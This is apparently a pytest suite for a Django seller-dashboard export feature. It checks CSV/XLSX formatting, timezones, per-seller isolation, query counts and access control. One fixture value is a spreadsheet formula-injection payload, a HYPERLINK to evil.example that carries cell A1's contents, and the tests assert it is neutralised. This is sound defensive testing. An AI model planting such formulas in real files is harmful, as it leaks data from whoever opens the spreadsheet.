"""Exports of a seller's orders, payments and refunds (``orders/exports.py``) as its members get
them from the dashboard's links: machine-readable CSV (streamed), XLSX with numeric cells, ISO
8601 instants in the seller's zone, neutralised formulas, one seller's rows only, and a constant
number of queries however many rows."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
import time_machine
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from orders.exports import CHUNK_SIZE, FORMULA_TRIGGERS, KINDS, neutralised
from orders.models import Order, Refund
from tenants.middleware import SESSION_KEY
from tenants.scope import tenant_scope
from tests.factories import (
    make_member,
    make_order,
    make_payment,
    make_pos,
    make_store,
    make_tenant,
    make_user,
)

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 12, 3, 18, 0, tzinfo=UTC)  # 15:00 on 3 Dec in Buenos Aires (UTC-3)
SALE = datetime(2026, 12, 2, 2, 30, tzinfo=UTC)  # 23:30 on 1 Dec in Buenos Aires, 2 Dec in UTC
REFUNDED = datetime(2026, 12, 3, 13, 0, tzinfo=UTC)  # 10:00 on 3 Dec in Buenos Aires
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PERIOD = {"from": "2026-12-01", "to": "2026-12-03"}


def created(tenant, pos, at: datetime, **fields) -> Order:
    with time_machine.travel(at, tick=False):
        return make_order(tenant, pos, **fields)


@pytest.fixture
def shop(client):
    """Parrilla (Buenos Aires): a sale of 1500.50 late on 1 Dec (local), 500.25 of it refunded on
    3 Dec, and an open order whose description is a formula; another seller's sale the same day.
    Returns the seller, its viewer (signed in) and the orders."""
    seller = make_tenant("Parrilla", site="MLA")
    pos = make_pos(seller, make_store(seller, name="Centro"), name="Caja 1")
    sale = created(
        seller,
        pos,
        SALE,
        status="processed",
        external_reference="mesa-4",
        description="Bife de chorizo",
        total_amount=Decimal("1500.50"),
        marketplace_fee=Decimal("150.05"),
        paid_at=SALE,
    )
    payment = make_payment(
        seller, sale, approved_at=SALE, refunded_amount=Decimal("500.25"), payment_method_id="visa"
    )
    with tenant_scope(seller):
        Refund.objects.create(
            tenant=seller,
            order=sale,
            payment=payment,
            amount=Decimal("500.25"),
            status=Refund.Status.PROCESSED,
            mp_refund_id="REF1",
            processed_at=REFUNDED,
        )
    typed = created(seller, pos, REFUNDED, external_reference="-1", description=INJECTION)
    other = make_tenant("Other", site="MLA")
    theirs = created(other, make_pos(other), SALE, external_reference="theirs", status="processed")
    make_payment(other, theirs, approved_at=SALE)
    viewer = make_member(seller, "viewer")
    client.force_login(viewer)
    return seller, viewer, sale, typed


def download(client, extension: str, **query):
    with time_machine.travel(NOW, tick=False):
        response = client.get(f"/api/v1/orders/export.{extension}", {**PERIOD, **query})
    assert response.status_code == 200, response.content
    return response


def csv_rows(response) -> list[dict[str, str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_orders_as_csv_are_machine_readable_and_only_this_sellers(client, shop):
    _seller, _viewer, sale, typed = shop

    response = download(client, "csv", kind="orders")
    rows = csv_rows(response)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="parrilla-orders-2026-12-01-to-2026-12-03.csv"'
    )
    assert [row["external_reference"] for row in rows] == ["mesa-4", "'-1"]  # oldest first
    first = rows[0]
    assert first["uid"] == str(sale.uid)
    assert (first["created_at"], first["paid_at"]) == (
        "2026-12-01T23:30:00-03:00",  # the seller's day and offset, not UTC's 2 Dec
        "2026-12-01T23:30:00-03:00",
    )
    assert (first["store"], first["pos"], first["status"]) == ("Centro", "Caja 1", "processed")
    assert (first["currency"], first["total_amount"], first["marketplace_fee"]) == (
        "ARS",
        "1500.50",
        "150.05",
    )
    assert (first["paid_amount"], first["refunded_amount"]) == ("1500.50", "500.25")
    assert rows[1]["description"] == "'" + INJECTION  # shown as typed, never run
    assert rows[1]["paid_at"] == ""
    assert rows[1]["uid"] == str(typed.uid)


def test_payments_and_refunds_as_csv(client, shop):
    _seller, _viewer, sale, _typed = shop

    [payment] = csv_rows(download(client, "csv", kind="payments"))
    [refund] = csv_rows(download(client, "csv", kind="refunds"))

    assert (payment["order_uid"], payment["external_reference"]) == (str(sale.uid), "mesa-4")
    assert (payment["approved_at"], payment["payment_method_id"]) == (
        "2026-12-01T23:30:00-03:00",
        "visa",
    )
    assert (payment["currency"], payment["amount"], payment["refunded_amount"]) == (
        "ARS",
        "1500.50",
        "500.25",
    )
    assert (refund["mp_refund_id"], refund["status"], refund["amount"]) == (
        "REF1",
        "processed",
        "500.25",
    )
    assert refund["processed_at"] == "2026-12-03T10:00:00-03:00"
    assert (refund["store"], refund["pos"], refund["currency"]) == ("Centro", "Caja 1", "ARS")


def test_a_refund_is_exported_on_the_day_it_was_processed(client, shop):
    assert csv_rows(download(client, "csv", kind="refunds", to="2026-12-02")) == []
    assert len(csv_rows(download(client, "csv", kind="refunds", **{"from": "2026-12-03"}))) == 1


def test_xlsx_has_numeric_amounts_with_a_number_format_and_neutralised_text(client, shop):
    response = download(client, "xlsx", kind="orders")

    assert response["Content-Disposition"] == (
        'attachment; filename="parrilla-orders-2026-12-01-to-2026-12-03.xlsx"'
    )
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["orders"]
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    assert all(cell.font.bold for cell in rows[0])
    sale = dict(zip(headers, rows[1], strict=True))
    assert (sale["total_amount"].data_type, sale["total_amount"].value) == ("n", 1500.5)
    assert sale["total_amount"].number_format == "#,##0.00"
    assert (sale["currency"].value, sale["created_at"].value) == (
        "ARS",
        "2026-12-01T23:30:00-03:00",
    )
    typed = dict(zip(headers, rows[2], strict=True))
    assert (typed["description"].data_type, typed["description"].value) == ("s", "'" + INJECTION)
    assert len(rows) == 3  # the other seller's sale is not there


def test_whole_peso_amounts_have_no_decimals(client):
    chile = make_tenant("Empanadas", site="MLC")
    created(chile, make_pos(chile), SALE, total_amount=Decimal("1500"))
    client.force_login(make_member(chile, "viewer"))

    [row] = csv_rows(download(client, "csv"))
    sheet = load_workbook(io.BytesIO(b"".join(download(client, "xlsx").streaming_content)))

    assert (row["currency"], row["total_amount"]) == ("CLP", "1500")
    assert sheet.active["L2"].number_format == "#,##0"
    assert row["created_at"].endswith("-03:00")  # Santiago in summer


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_formula_trigger_is_neutralised(trigger):
    assert neutralised(f"{trigger}1+1") == f"'{trigger}1+1"
    assert neutralised(f"Mesa {trigger}1") == f"Mesa {trigger}1"


def test_streaming_reads_every_row_in_one_query(client, shop):
    seller, _viewer, sale, _typed = shop
    for _ in range(CHUNK_SIZE + 5):
        created(seller, sale.pos, SALE)

    response = download(client, "csv")
    with CaptureQueriesContext(connection) as queries:
        rows = csv_rows(response)  # read when sent, after the view returned

    assert len(rows) == CHUNK_SIZE + 7
    assert len(queries) == 1


def test_the_dashboard_links_to_every_export_of_its_period(client, shop):
    with time_machine.travel(NOW, tick=False):
        page = client.get("/admin/dashboard/", PERIOD).text

    for kind in KINDS:
        for extension in ("csv", "xlsx"):
            link = (
                f'href="/api/v1/orders/export.{extension}?kind={kind}'
                '&amp;from=2026-12-01&amp;to=2026-12-03"'
            )
            assert link in page
    rows = csv_rows(download(client, "csv", kind="payments"))
    assert len(rows) == 1


def test_a_range_too_long_or_an_unknown_kind_is_refused(client, shop):
    with time_machine.travel(NOW, tick=False):
        too_long = client.get("/api/v1/orders/export.csv", {"from": "2025-01-01"})
        unknown = client.get("/api/v1/orders/export.xlsx", {"kind": "customers"})

    assert too_long.status_code == 400
    assert too_long.json()["fields"]["non_field_errors"][0]["code"] == "period_too_long"
    assert unknown.status_code == 400
    assert unknown.json()["fields"]["kind"][0]["code"] == "invalid_choice"


def test_platform_staff_who_are_not_members_get_no_export_links(client, shop):
    seller, _viewer, _sale, _typed = shop
    client.force_login(make_user(is_staff=True, is_platform_staff=True))
    session = client.session
    session[SESSION_KEY] = seller.pk
    session.save()

    with time_machine.travel(NOW, tick=False):
        page = client.get("/admin/dashboard/", PERIOD).text
        export = client.get("/api/v1/orders/export.csv", PERIOD)

    assert 'id="paid-by-pos"' in page
    assert "/api/v1/orders/export" not in page
    assert export.status_code == 403  # the API asks for a role in the seller
